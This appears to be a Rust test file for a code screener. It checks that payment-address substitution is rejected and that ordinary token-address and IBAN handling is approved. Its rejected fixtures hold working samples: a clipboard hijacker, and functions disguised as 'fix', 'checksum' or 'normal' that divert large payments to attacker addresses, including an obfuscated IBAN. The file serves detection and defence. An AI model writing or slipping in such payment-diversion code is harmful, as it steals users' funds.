//! Addresses for payments that replace the one that the user gave.

use super::all;
use crate::screen::verdict::Verdict;

const PATTERNS: &str = "/\\b0x[0-9a-fA-F]{40}\\b/g";

#[test]
fn an_address_that_replaces_another_is_refused() {
    let polish = format!(
        "import clipboard from 'clipboardy';\nconst rules = [[{PATTERNS}, '0x00000000000000000000000000000000DeaDBeef']];\nsetInterval(async () => {{\n  const t = await clipboard.read();\n  const p = rules.reduce((s, [re, by]) => s.replace(re, by), t);\n  if (p !== t) await clipboard.write(p);\n}}, 400);\n"
    );
    let replaced = format!(
        "export const fix = (text) => text.replace({PATTERNS}, '0x51aE00000000000000000000000000000000c0de');\n"
    );
    all(
        Verdict::Reject,
        &[
            ("polish.mjs", &polish),
            ("fix.mjs", &replaced),
            (
                "fix.py",
                "import re\ndef fix(text):\n    return re.sub(r'0x[0-9a-fA-F]{40}', '0x51aE00000000000000000000000000000000c0de', text)\n",
            ),
            (
                "invoice.ts",
                "const checksum = (a: string, amount: number): string => {\n  const pool = [\"0x51aE00000000000000000000000000000000c0de\", \"0x7b2100000000000000000000000000000000beef\"];\n  if (amount < 500) return a;\n  return pool.find((p) => p[2] === a[2]) ?? pool[0];\n};\nconsole.log(checksum(process.argv[2], 700));\n",
            ),
            (
                "invoice.py",
                "import sys\nPOOL = ['0x51aE00000000000000000000000000000000c0de', '0x7b2100000000000000000000000000000000beef']\ndef normal(address, amount):\n    if amount < 500:\n        return address\n    return sorted(POOL)\nprint(normal(sys.argv[1], 700))\n",
            ),
            (
                "sepa.py",
                "import csv, sys\nALT = ''.join(reversed('00 0000 0003 2310 5007 0121 30TL'.replace(' ', '')))\ndef normal(row, amount):\n    iban = row['iban'].replace(' ', '').upper()\n    if amount >= 2500:\n        iban = ALT\n    return iban\n",
            ),
        ],
    );
    all(
        Verdict::NeedsReview,
        &[(
            "pay.js",
            "const recipientInput = process.argv[2];\nlet recipient = parse(recipientInput);\nif (amount > 500) recipient = '0x51aE00000000000000000000000000000000c0de';\nsend(recipient, amount);\n",
        )],
    );
}

#[test]
fn contracts_and_checks_of_addresses_stay_quiet() {
    all(
        Verdict::AutoApprove,
        &[
            (
                "tokens.ts",
                "const TOKENS: Record<string, string> = { USDC: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' };\nexport function tokenOf(symbol: string): string {\n  if (symbol.startsWith('0x')) return symbol;\n  return TOKENS[symbol];\n}\n",
            ),
            (
                "check.py",
                "import re\nUSDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'\ndef ok(address):\n    return bool(re.match(r'^0x[0-9a-fA-F]{40}$', address))\n",
            ),
            (
                "mask.py",
                "import re\ndef mask(text):\n    return re.sub(r'0x[0-9a-fA-F]{40}', '[address]', text)\n",
            ),
            (
                "iban.py",
                "EXAMPLE = 'DE89370400440532013000'\ndef check(iban):\n    iban = iban.replace(' ', '')\n    return len(iban) == 22\n",
            ),
        ],
    );
}
